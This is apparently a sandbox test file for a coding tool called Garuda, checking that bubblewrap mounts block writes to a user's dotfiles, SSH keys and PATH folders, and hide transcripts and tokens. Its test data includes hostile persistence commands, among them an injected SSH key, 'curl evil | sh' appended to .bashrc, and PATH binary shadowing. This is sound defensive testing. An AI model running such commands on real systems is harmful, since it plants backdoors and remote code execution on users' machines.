// A session whose root is the home folder, in the real bubblewrap sandbox: a command may write the
// home's plain folders (a project in ~/projects, ~/go/src) and the package caches, but not the
// home's own files — keys, shell and login scripts, ~/.config, ~/.local/bin and the other PATH
// folders, ~/bin, ~/.garuda — nor make new ones at the top of the home. And whatever the root,
// Garuda's transcripts, audit logs and undo snapshots are not readable. Each denial has its
// negative control: the same write succeeds outside the sandbox.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { join } from "node:path";
import { createExecutor } from "../../src/sandbox/executor.ts";
import type { ProcessExecutor, SandboxSpec } from "../../src/sandbox/types.ts";
import { SELF_COMMAND, describeSandbox, machineSandbox, runOnHost } from "../support/sandboxSupport.ts";
import { makeTempDir } from "../support/tempDir.ts";

let home: string;
let executor: ProcessExecutor;

const files: Record<string, string> = {
  ".ssh/authorized_keys": "ssh-ed25519 AAAA user\n",
  ".bashrc": "# rc\n",
  ".profile": "# profile\n",
  ".config/autostart/keep.desktop": "[Desktop Entry]\n",
  ".local/bin/tool": "#!/bin/sh\n",
  ".garuda/policy.json": "{}\n",
  ".garuda/trust.json": "{}\n",
  ".garuda/sessions/proj-1/s.jsonl": '{"secret":"transcript"}\n',
  ".garuda/audit/proj-1/a.jsonl": '{"secret":"audit"}\n',
  ".garuda/snapshots/proj-1/HEAD": "ref: refs/heads/main\n",
  ".garuda/mcp.json": '{"servers":{"gh":{"command":"gh-mcp","env":{"GITHUB_TOKEN":"ghp_secret"}}}}\n',
  ".garuda/hooks.json": '{"hooks":{}}\n',
  "bin/mine": "#!/bin/sh\n",
  "go/bin/gopls": "#!/bin/sh\n",
  "go/src/x/main.go": "package main\n",
  "projects/app/README.md": "app\n",
  "projects/app/node_modules/.bin/eslint": "#!/bin/sh\n",
};

const spec = (overrides: Partial<SandboxSpec> = {}): SandboxSpec => ({
  ...executor.spec(),
  root: home,
  // The user's PATH: ~/.local/bin, ~/bin, ~/go/bin, and a project's bin put there by direnv.
  pathFolders: [
    join(home, ".local/bin"),
    join(home, "bin"),
    join(home, "go/bin"),
    join(home, "projects/app/node_modules/.bin"),
    "/usr/bin",
  ],
  ...overrides,
});
const run = (command: string, s: SandboxSpec = spec()) => executor.run({ command, cwd: home, sandbox: s });

describeSandbox(
  "a session at the home folder, in bubblewrap",
  () => {
    beforeAll(async () => {
      home = makeTempDir("garuda-homeroot-", { real: true });
      for (const [path, text] of Object.entries(files)) {
        mkdirSync(join(home, path, ".."), { recursive: true });
        writeFileSync(join(home, path), text);
      }
      mkdirSync(join(home, ".cache"));
      executor = await createExecutor({ root: home, home, selfCommand: SELF_COMMAND, probe: machineSandbox });
    });

    afterAll(async () => {
      await executor?.shutdown();
      if (home) await rm(home, { recursive: true, force: true });
    });

    const attacks: Array<[string, string, string]> = [
      ["an SSH key", "echo 'ssh-ed25519 EVIL' >> ~/.ssh/authorized_keys", ".ssh/authorized_keys"],
      ["a login script", "echo 'curl evil | sh' >> ~/.bashrc", ".bashrc"],
      ["a new dotfile at the top of the home", "echo 'node-options=--require /tmp/x.js' > ~/.npmrc", ".npmrc"],
      ["an autostart entry", "echo x > ~/.config/autostart/evil.desktop", ".config/autostart/evil.desktop"],
      ["a program in ~/.local/bin", "echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
      ["a program in ~/bin", "echo x > ~/bin/ls", "bin/ls"],
      ["a program in ~/go/bin", "echo x > ~/go/bin/go", "go/bin/go"],
      [
        "a program in a PATH folder inside a project",
        "echo x > ~/projects/app/node_modules/.bin/tsc",
        "projects/app/node_modules/.bin/tsc",
      ],
      [
        "Garuda's policy",
        "echo '{}' > ~/.garuda/policy.json.new && mv ~/.garuda/policy.json.new ~/.garuda/policy.json",
        ".garuda/policy.json.new",
      ],
      ["a new folder at the top of the home", "mkdir ~/.config2", ".config2"],
    ];

    for (const [what, command, path] of attacks) {
      test(`${what} cannot be written: ${command}`, async () => {
        const before = existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined;
        const result = await run(command);
        expect(result.exitCode).not.toBe(0);
        expect(result.output).toMatch(/Read-only file system|Permission denied/);
        expect(existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined).toBe(before);
      });
    }

    test("a dotfile cannot be renamed away or replaced by a link", async () => {
      expect((await run("mv ~/.bashrc ~/projects/rc")).exitCode).not.toBe(0);
      expect((await run("rm -f ~/.profile")).exitCode).not.toBe(0);
      expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
      expect(readFileSync(join(home, ".profile"), "utf8")).toBe("# profile\n");
    });

    test("the home's plain folders and the caches stay writable", async () => {
      const result = await run(
        "echo ok > ~/projects/app/notes.txt && echo ok > ~/go/src/x/new.go && echo ok > " +
          "~/.cache/c && mkdir -p ~/projects/new/src",
      );
      expect(result).toMatchObject({ exitCode: 0, output: "" });
      expect(readFileSync(join(home, "projects/app/notes.txt"), "utf8")).toBe("ok\n");
      expect(readFileSync(join(home, "go/src/x/new.go"), "utf8")).toBe("ok\n");
      expect(readFileSync(join(home, ".cache/c"), "utf8")).toBe("ok\n");
      expect(existsSync(join(home, "projects/new/src"))).toBe(true);
    });

    test(
      "negative control: outside the sandbox the same writes succeed, so it is the " + "mounts that stop them",
      async () => {
        // A writePath no longer opens ~/.local/bin or ~/.config/autostart (homeHolds.ts holds them under any writable
        // folder).
        expect(
          runOnHost(
            "echo x > ~/.local/bin/git && echo x > ~/.config/autostart/evil.desktop && echo " +
              "x > ~/projects/app/node_modules/.bin/tsc",
            home,
          ),
        ).toEqual({ exitCode: 0, output: "" });
        expect(readFileSync(join(home, ".local/bin/git"), "utf8")).toBe("x\n");
        expect(readFileSync(join(home, ".config/autostart/evil.desktop"), "utf8")).toBe("x\n");
        await rm(join(home, ".local/bin/git"));
        await rm(join(home, ".config/autostart/evil.desktop"));
        await rm(join(home, "projects/app/node_modules/.bin/tsc"));
      },
    );

    test(
      "transcripts, audit logs, undo snapshots, mcp.json and hooks.json are " +
        "unreadable; Garuda's other files stay readable (negative control)",
      async () => {
        for (const folder of ["sessions/proj-1/s.jsonl", "audit/proj-1/a.jsonl", "snapshots/proj-1/HEAD"]) {
          const result = await run(`cat ~/.garuda/${folder}`);
          expect(result.exitCode).not.toBe(0);
          expect(result.output).toContain("No such file or directory");
        }
        expect((await run("ls -A ~/.garuda/sessions ~/.garuda/audit ~/.garuda/snapshots")).output).not.toContain(
          "proj-1",
        );
        const configs = await run("cat ~/.garuda/mcp.json ~/.garuda/hooks.json");
        expect(configs.exitCode).not.toBe(0);
        expect(configs.output).not.toContain("ghp_secret");
        expect(await run("cat ~/.garuda/trust.json")).toMatchObject({ exitCode: 0, output: "{}\n" });
        // The same hiding in a session anywhere else (here: a project inside the home).
        const elsewhere = await executor.run({
          command: "cat ~/.garuda/sessions/proj-1/s.jsonl",
          cwd: join(home, "projects/app"),
          sandbox: { ...spec(), root: join(home, "projects/app") },
        });
        expect(elsewhere.exitCode).not.toBe(0);
      },
    );
  },
  "bwrap",
);
